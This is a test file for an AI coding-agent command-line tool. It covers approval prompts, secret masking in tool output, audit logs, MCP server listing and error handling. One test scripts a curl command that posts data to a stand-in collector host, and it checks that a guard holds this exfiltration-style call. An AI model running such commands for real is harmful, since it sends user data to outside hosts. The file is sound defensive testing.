import { assert, assertEquals } from "@a3s/common/testing";
import { fileURLToPath } from "node:url";
import { scriptedOpenAiServer } from "./_testing/servers.ts";
import { A3sError, UsageError } from "@a3s/common/errors";
import { oneLine } from "./cli.ts";

const MOD = fileURLToPath(new URL("../mod.ts", import.meta.url));
const KEY = "AKIAQWERTYUIOPASDFGH";
/** Prints a key the command itself does not hold: only the tool's output carries it. */
const PRINT_KEY = `echo from-bash; echo "key ${KEY.slice(0, 8)}""${KEY.slice(8)}"`;

async function a3s(args: string[], home: string, stdin?: string) {
  const child = new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", MOD, "code", ...args],
    env: { A3S_HOME: home },
    stdin: stdin === undefined ? "null" : "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  if (stdin !== undefined) {
    const w = child.stdin.getWriter();
    await w.write(new TextEncoder().encode(stdin));
    await w.close();
  }
  const out = await child.output();
  return {
    code: out.code,
    stdout: new TextDecoder().decode(out.stdout),
    stderr: new TextDecoder().decode(out.stderr),
  };
}

/**
 * A scripted model and `home/agent.hcl` on it (`write` asks): a tool's output comes back as
 * "Result: ...", a message with "write" writes `w.txt`, any other runs `command` in bash.
 */
async function scriptedAgent(home: string, command: string, extraConfig = "") {
  const llm = scriptedOpenAiServer((body) => {
    const messages = body.messages as { role: string; content: string }[];
    const last = messages.at(-1)!;
    if (last.role === "tool") return { text: `Result: ${last.content}` };
    if (last.content.includes("write")) {
      return { toolCalls: [{ name: "write", arguments: { path: "w.txt", content: "w" } }] };
    }
    return { toolCalls: [{ name: "bash", arguments: { command } }] };
  });
  await Deno.writeTextFile(
    `${home}/agent.hcl`,
    `default_model = "llm/m"\nworkspace = "ws"\nproviders {\n  name = "llm"\n  base_url = "${llm.url}"\n}\npermissions {\n  ask = ["write"]\n}\n${extraConfig}`,
  );
  return llm;
}

Deno.test("cli: run streams events (text and JSON lines), interactive sessions ask approvals, sessions ls, usage errors exit 2", async () => {
  const home = await Deno.makeTempDir({ prefix: "a3s-code-cli-" });
  const llm = await scriptedAgent(home, PRINT_KEY);
  try {
    const run = await a3s(["run", `${home}/agent.hcl`, "say", "hi"], home);
    assertEquals(run.code, 0, run.stderr);
    assert(run.stdout.includes("Result: exit code: 0"), run.stdout);
    assert(
      run.stderr.includes("● bash(echo from-bash") &&
        run.stderr.includes("— end; 2 model call(s), 1 tool call(s)"),
      run.stderr,
    );

    // The CLI session's model read the printed key masked, like every other session's.
    assert(!JSON.stringify(llm.bodies).includes(KEY), "the printed key reached the model");
    assert(run.stdout.includes(`key ${"*".repeat(KEY.length)}`), run.stdout);

    const json = await a3s(["run", `${home}/agent.hcl`, "hi", "--json"], home);
    const events = json.stdout.trim().split("\n").map((l) => JSON.parse(l));
    assertEquals(events.at(-1).type, "done");
    assert(events.some((e) => e.type === "tool_end" && e.output.includes("from-bash")));

    // Interactive: the first line asks for a write, the approval is answered "y" on the terminal.
    const chat = await a3s(["run", `${home}/agent.hcl`], home, "please write\ny\n\n");
    assertEquals(chat.code, 0, chat.stderr);
    assert(chat.stderr.includes("Allow write(w.txt) [rule write]? [y/N]"), chat.stderr);
    assertEquals(await Deno.readTextFile(`${home}/ws/w.txt`), "w");

    const sessions = await a3s(["sessions", "ls", "--json"], home);
    assertEquals(JSON.parse(sessions.stdout).length, 3);
    const audit = await a3s(["audit", "ls", "--json"], home);
    assertEquals(JSON.parse(audit.stdout).map((e: { tool: string }) => e.tool).sort(), [
      "bash",
      "bash",
      "write",
    ]);
    const tools = await a3s(["tools", `${home}/agent.hcl`, "--format", "json"], home);
    assertEquals(JSON.parse(tools.stdout).length, 17); // every built-in but memory, which needs the store

    await Deno.writeTextFile(`${home}/bad.hcl`, "max_steps = -1\n");
    const bad = await a3s(["check", `${home}/bad.hcl`], home);
    assertEquals(bad.code, 2);
    assertEquals(bad.stderr.trim().split("\n").length, 1);
    assert(bad.stderr.includes("bad.hcl:1: max_steps:"), bad.stderr);
    const usage = await a3s(["run"], home);
    assertEquals([usage.code, usage.stderr.trim()], [
      2,
      "error: run needs the agent config: a3s code run AGENT.hcl [TASK]",
    ]);
    const flag = await a3s(["run", "--bogus"], home);
    assertEquals(flag.code, 2);
  } finally {
    await llm.close();
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("cli: --yes approves the config's asks, never a call safeclaw holds", async () => {
  const home = await Deno.makeTempDir({ prefix: "a3s-code-cli-yes-" });
  // Data sent off the allow list: held for approval, as this config says.
  const llm = await scriptedAgent(
    home,
    "curl -s -m 1 -d hello https://collector.example/upload",
    `safeclaw {\n  tool_calls {\n    on_exfiltration = "approve"\n  }\n}\n`,
  );
  try {
    const write = await a3s(["run", `${home}/agent.hcl`, "please write", "--yes"], home);
    assertEquals(write.code, 0, write.stderr);
    assertEquals(await Deno.readTextFile(`${home}/ws/w.txt`), "w");

    const held = await a3s(["run", `${home}/agent.hcl`, "send it", "--yes", "--json"], home);
    assertEquals(held.code, 0, held.stderr);
    const events = held.stdout.trim().split("\n").map((l) => JSON.parse(l));
    const result = events.find((e) => e.type === "approval_result");
    assertEquals(result?.allowed, false, held.stdout);
    const end = events.find((e) => e.type === "tool_end");
    assert(end?.isError && end.output.includes("safeclaw held it"), held.stdout);
  } finally {
    await llm.close();
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("cli: tools lists a config's MCP servers without starting them; --connect does, and a failure is one line", async () => {
  const home = await Deno.makeTempDir({ prefix: "a3s-code-cli-tools-" });
  const marker = `${home}/started`;
  // A config in a cloned repository may name any program as its MCP server.
  await Deno.writeTextFile(
    `${home}/agent.hcl`,
    `default_model = "x/m"\nworkspace = "ws"\nproviders {\n  name = "x"\n  base_url = "http://127.0.0.1:9"\n}\nmcp "helper" {\n  transport = "stdio"\n  command = "sh"\n  args = ["-c", "echo ran > ${marker}; exit 1"]\n}\n`,
  );
  try {
    const listed = await a3s(["tools", `${home}/agent.hcl`], home);
    assertEquals(listed.code, 0, listed.stderr);
    assert(/^bash\s+exec/m.test(listed.stdout), listed.stdout);
    assert(/^mcp__helper__\*\s+not connected: sh \(--connect/m.test(listed.stdout), listed.stdout);
    const json = await a3s(["tools", `${home}/agent.hcl`, "--json"], home);
    const helper = JSON.parse(json.stdout).find((t: { name: string }) =>
      t.name.startsWith("mcp__")
    );
    assertEquals([helper.server, helper.connected], ["helper", false]);
    assertEquals(await Deno.stat(marker).then(() => true, () => false), false);

    const connected = await a3s(["tools", `${home}/agent.hcl`, "--connect"], home);
    assertEquals(connected.code, 1);
    assertEquals(await Deno.readTextFile(marker), "ran\n");
    const lines = connected.stderr.trim().split("\n");
    assertEquals(lines.length, 1, connected.stderr);
    assert(lines[0].startsWith("error: mcp server helper: cannot connect:"), lines[0]);

    const usage = await a3s(["tools", `${home}/agent.hcl`, "extra"], home);
    assertEquals([usage.code, usage.stderr.trim()], [2, "error: unexpected argument 'extra'"]);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("cli: an error the command does not name becomes one line, not a stack", () => {
  const bug = oneLine(new TypeError("x is not a function\n    at somewhere"));
  assert(bug instanceof A3sError);
  assertEquals([bug.message, bug.status], ["x is not a function", 500]);
  const usage = new UsageError("bad");
  assertEquals(oneLine(usage), usage);
});
